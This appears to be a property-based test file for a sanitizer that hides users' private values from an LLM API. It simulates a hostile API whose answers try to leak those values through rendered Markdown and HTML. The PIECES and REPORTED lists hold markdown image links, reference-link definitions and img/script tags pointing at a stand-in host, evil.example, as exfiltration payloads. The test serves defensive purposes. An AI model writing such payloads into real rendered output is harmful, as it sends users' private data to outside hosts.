"""A hostile API that writes formulas, labels, links and fences, and programs that show its answers.

Two users differ in every hidden value. The API sends both the same script. The application strips,
wraps, quotes or edits what it was shown and resends it, and shows each answer, and each beginning of
one that streams, as Markdown with HTML. Every byte that leaves must be the same, and so must be
what is asked for to show the answers: by any attribute that loads, and in a browser.

    pytest -m nightly tests/wire/test_rendered.py    # 5,000 scripts, some minutes
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator, Sequence
from functools import partial
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sanitizer import Policy, Sanitizer
from sanitizer.storage.table import Wanted
from sanitizer.storage.vault import MemoryVault
from sanitizer.wire.filter import Filter
from tests.clients.tool_calls import CHAT, JSON
from tests.wire.test_event_streams import chunk, concatenated, event

KINDS = ("MONEY_1", "MONEY_2", "DATE_1", "NUMBER_1", "PERSON_1", "ID_1")
USERS = (
    ("£1,250.00", "£980.50", "12 May 2025", "34", "Elena Marsh", "AX-4471"),
    ("£7.10", "£12,000.00", "3 January 2024", "7", "Ruth Brandt", "QB-9"),
)
POLICY = Policy.preset("identifiers")
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table")
EVIL = "https://evil.example/"
PIECES = [
    *(f"<{kind}>" for kind in KINDS),
    *USERS[0],
    "{{= <MONEY_1> + <MONEY_2> }}",
    "{{= VALUE(<MONEY_1>) }}",
    "{{= DAYS(<DATE_1>, \"1 January 2024\") }}",
    "{{= FIRST(<PERSON_1>) }}",
    *(
        f'{{{{= IF(<MONEY_1> > 500, "{yes}", "{no}") }}}}'
        for yes, no in (
            ("1", "x"),
            (" ", "x"),
            ("a !", "a"),
            ("a`", "a"),
            ("```a", "a"),
            ("<!-- a", "a"),
            ("img src=x", "a"),
            ("a", "b"),
            ("Elena", "x"),
            ("a\\", "a"),
            ("evil.example", "a"),
        )
    ),
    "{{= ROWS DESC\n<MONEY_1> :: a `\n<MONEY_2> :: b\n}}",
    "{{= ROWS WHERE > 900\n<MONEY_1> :: - <PERSON_1>\n<MONEY_2> :: 1. b\n}}",
    *("![", "[", "]", "](", "][", "]: ", "(", ")", "!", "`", "```\n", "<!--", "-->", "<", ">", "."),
    *("\n", "\n", "\n\n", " ", " ", "      ", "- ", "1. ", "> ", "| ", "|---|\n", "\\", "a", "b"),
    *(EVIL, f"({EVIL}1)", f"]: {EVIL}2\n", f"\n[Elena Marsh]: {EVIL}3\n", f"\n[a]: {EVIL}4\n"),
    *(f"\n[1250.00]: {EVIL}5\n", f"![x]({EVIL}6)", f"<img src={EVIL}7>", '<img src="', '<a href="'),
    *('">', "<pre>", "</pre>", "<script>", "www.evil.example", f"<{EVIL}>", "![<PERSON_1>]", "&lt;"),
    *("the total is ", "so it stays with you, then. "),
]
SCRIPTS = st.lists(
    st.lists(st.sampled_from(PIECES), max_size=9).map("".join), min_size=1, max_size=3
)


def strip(text: str) -> str:
    return text.strip()


def wrap(text: str) -> str:
    return f"Assistant: {text}\n"


def quote(text: str) -> str:
    return "\n".join(f"> {line}" for line in text.split("\n"))


def edit(text: str) -> str:
    return f"{text}\nNOTE: edited."


class _Asked(HTMLParser):
    """Everything that a page names by its attributes, and its tags."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {"src", "srcset", "href", "poster", "data", "background", "action", "style"}
        self.found += [f"{tag} {name}={value}" for name, value in attrs if name in names]


def conversation(
    values: Sequence[str], script: Sequence[str], change: Callable[[str], str], streams: bool
) -> tuple[list[bytes], list[str]]:
    """What leaves in a conversation with one user, and every page that is shown meanwhile."""
    vault = MemoryVault(numbers="from 1")
    policy = {"base": "identifiers", "wire": {"formulas": True}}
    sanitizer = Sanitizer(policy=policy, vault=vault, conversation="c")
    with vault.edit("c") as table:
        for kind, value in zip(KINDS, values, strict=True):
            table.assign(Wanted(kind.rpartition("_")[0], value), f"<{kind}>")
    filtered = Filter(sanitizer)
    history: list[dict[str, Any]] = [{"role": "user", "content": "Total these."}]
    sent: list[bytes] = []
    pages: list[str] = []
    for said in [*script, ""]:
        body = json.dumps({"messages": history, "stream": streams}).encode()
        exchange = filtered.request("POST", CHAT, JSON, body)
        sent.append(exchange.body)
        if streams:
            stream, raw = exchange.stream("text/event-stream"), b""
            for piece in [said[i : i + 5] for i in range(0, len(said), 5)]:
                raw += stream.feed(event(chunk({"content": piece})))
                pages.append(concatenated(raw).get((0, "content"), ""))
            raw += stream.feed(event(chunk({}, "stop")) + event("[DONE]")) + stream.finish()
            shown = concatenated(raw).get((0, "content"), "")
        else:
            message = {"role": "assistant", "content": said}
            answer = json.dumps({"choices": [{"index": 0, "message": message}]}).encode()
            shown = json.loads(exchange.response(200, "application/json", answer))
            shown = shown["choices"][0]["message"]["content"]
        pages.append(shown)
        history += [{"role": "assistant", "content": change(shown)}]
        history += [{"role": "user", "content": "Go on."}]
    return sent, [MARKDOWN.render(page) for page in pages]


def pages_of(script: Sequence[str], change: Callable[[str], str], streams: bool) -> list[list[str]]:
    """The pages that two users see, who send the same bytes and name the same addresses."""
    both = [conversation(values, script, change, streams) for values in USERS]
    assert both[0][0] == both[1][0]
    named = [sorted({each for page in pages for each in _Asked(page).found}) for _, pages in both]
    assert named[0] == named[1]
    return [pages for _, pages in both]


REPORTED = [
    [f"![][{{{{= VALUE(<MONEY_1>) }}}}]\n\n[1250.00]: {EVIL}1\n[7.10]: {EVIL}2"],
    [f"[Elena Marsh]: {EVIL}3\n\n![][<PERSON_1>] ![<PERSON_1>] [<PERSON_1>]"],
    [f"![<PERSON_1>] [<PERSON_1>] and\n\n[Elena Marsh]: {EVIL}3\n"],
    [f'{{{{= IF(<MONEY_1> > 500, "1", "x") }}}}.      ![]({EVIL})'],
    [f'Ah{{{{= IF(<MONEY_1> > 500, " !", " ") }}}}[a]({EVIL})'],
    [f'{{{{= IF(<MONEY_1> > 500, "```", "") }}}}\n![a]({EVIL})\n```'],
    ['{{= IF(<MONEY_1> > 500, " ", "x") }}', "so?"],
    ['<img src="<MONEY_1>"> [a](<PERSON_1>) ![b](x/<ID_1>)'],
    ["It is {{= <MONEY_1> + <MONEY_2> }} in all, as you know.", "Yes."],
]
NAMES = {strip, wrap, quote, edit}
few = partial(settings, deadline=None, suppress_health_check=list(HealthCheck))


@pytest.mark.parametrize("streams", [False, True])
@pytest.mark.parametrize("change", [strip, wrap, quote, edit])
@pytest.mark.parametrize("script", REPORTED)
def test_what_was_found_once(script: list[str], change: Callable[[str], str], streams: bool) -> None:
    pages_of(script, change, streams)


@given(SCRIPTS, st.sampled_from([strip, wrap, quote, edit]), st.booleans())
@few(max_examples=int(os.environ.get("N_SCRIPTS","150")))
def test_nothing_differs(script: list[str], change: Callable[[str], str], streams: bool) -> None:
    pages_of(script, change, streams)
